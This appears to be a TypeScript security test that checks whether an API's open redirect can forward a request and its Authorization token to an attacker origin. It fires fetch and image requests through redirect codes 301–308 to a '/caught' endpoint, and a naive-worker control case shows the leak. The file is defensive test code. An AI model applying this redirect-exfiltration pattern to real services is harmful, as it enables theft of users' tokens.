/** Has an open redirect of the API send the request, and its token, on to the attacker. */
import { attack } from './support/attack.js';
import { withNaiveWorker } from './support/naive-worker.js';
import { stopped } from './support/outcome.js';
import type { SiteOptions } from '../support/site.js';

const BY_BROWSER = stopped('the token is in `Authorization`, which the browser takes away when a redirect leads to another origin');

const site: SiteOptions = {
  answer: ({ path }) => {
    const { pathname, searchParams } = new URL(path, 'http://site');
    if (!pathname.endsWith('/go')) return undefined;
    return new Response(null, { status: Number(searchParams.get('status')), headers: { Location: searchParams.get('to') ?? '' } });
  },
};

attack('Send a request on to the attacker by an open redirect of the API', {
  engines: 'all',
  site,
  expected: { indexeddb: BY_BROWSER, memory: BY_BROWSER, sealed: BY_BROWSER, 'sealed + proof': BY_BROWSER },
  steps: async ({ tab, endpoints, attacker }) => {
    const go = endpoints.me.replace('/me', '/go');
    await tab.run(
      async ([path, home]) => {
        const to = (status: number): string => `${path}?status=${String(status)}&to=${encodeURIComponent(`${home}/caught?${String(status)}`)}`;
        for (const status of [301, 302, 303, 307, 308]) {
          for (const method of ['GET', 'POST']) await fetch(to(status), { method }).then(() => undefined, () => undefined);
        }
        const image = new Image();
        image.src = to(302);
        await new Promise((resolve) => ['load', 'error'].forEach((type) => image.addEventListener(type, resolve)));
      },
      [go, attacker.origin] as const,
    );
    return attacker.received();
  },
  control: { name: 'a worker that attaches the token in a header of its own', victim: (stage) => withNaiveWorker(stage, site) },
});
